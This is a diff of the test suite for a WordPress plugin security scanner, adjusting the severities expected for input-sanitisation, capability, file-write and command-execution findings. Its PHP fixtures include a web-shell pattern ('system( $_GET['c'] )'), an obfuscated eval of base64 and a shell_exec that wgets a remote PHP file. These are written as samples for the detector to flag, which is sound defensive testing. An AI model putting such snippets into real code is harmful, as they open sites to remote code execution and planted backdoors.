@@ -99,7 +99,7 @@ describe('a finding', () => {
     ],
     [
       'security/sanitize-input',
-      "function tide_a() { update_option( 'tide_x', esc_attr( $_POST['x'] ?? '' ) ); }",
+      "class Tide_A { public function in() { return $_POST['x'] ?? ''; } public function go() { update_option( 'tide_x', $this->in() ); } }",
       'warning possible',
     ],
     [
@@ -191,11 +191,6 @@ describe('a finding', () => {
       'security/capability',
       "add_action( 'admin_init', 'tide_a' );\nfunction tide_a() { if ( isset( $_POST['x'] ) ) { update_option( 'tide_x', absint( $_POST['x'] ) ); } }",
       'error certain',
-    ],
-    [
-      'security/capability',
-      "add_action( 'init', 'tide_a' );\nfunction tide_a() { if ( ! get_option( 'tide_x' ) ) { update_option( 'tide_x', 1 ); }\ntide_show( $_GET['tide'] ?? '' ); }",
-      'warning possible',
     ],
     [
       'security/escape-output',
@@ -567,7 +562,8 @@ describe('a finding', () => {
 
   test.each([
     ['file_put_contents', 'error'],
-    ['unlink', 'warning'],
+    ['chmod', 'warning'],
+    ['unlink', undefined],
   ])('of %s in the own folder is of severity: %s', async (called, severity) => {
     const found = await findingsIn({ 'tide-table.php': `<?php\n${called}( __DIR__ . '/a.txt', '' );` })
     expect(found.find(({ rule }) => rule === 'security/file-write')?.severity).toBe(severity)
@@ -585,13 +581,17 @@ describe('a finding', () => {
     expect(await severityOf("update_option( 'tide_x', sanitize_text_field( $_POST['t'] ) );")).toBe('error')
   })
 
-  test('of a command is an error, but only a warning in a library for the command line', async () => {
-    const severityIn = async (file: string, code: string) =>
-      (await findingsIn({ [file]: `<?php\n${code}` })).map(({ severity }) => severity)
+  test('of a command is an error, but none in a library of others, unless it is hostile', async () => {
+    const severityIn = async (file: string, code: string, foreign = true) =>
+      (await findingsIn({ [file]: `<?php\n${code}` }, 'tide-table', foreign)).map(({ severity }) => severity)
     for (const file of ['vendor/a/b.php', 'src/Dependencies/a.php', 'prefixed-vendors/a.php']) {
-      expect(await severityIn(file, "shell_exec( 'stty -g' );")).toEqual(['warning'])
+      expect(await severityIn(file, "shell_exec( 'stty -g' );")).toEqual([])
+      expect(await severityIn(file, "shell_exec( 'stty -g' );", false)).toEqual(['warning'])
+      expect(await severityIn(file, "shell_exec( 'wget -O a.php https://tide.example/a' );")).toEqual([
+        'error',
+      ])
       expect(await severityIn(file, "system( $_GET['c'] );")).toContain('error')
-      expect(await severityIn(file, 'eval( $made );')).toEqual(['warning'])
+      expect(await severityIn(file, 'eval( $made );')).toEqual([])
       expect(await severityIn(file, "eval( base64_decode( 'YQ==' ) );")).toContain('error')
     }
     expect(await severityIn('src/a.php', "shell_exec( 'stty -g' );")).toEqual(['error'])
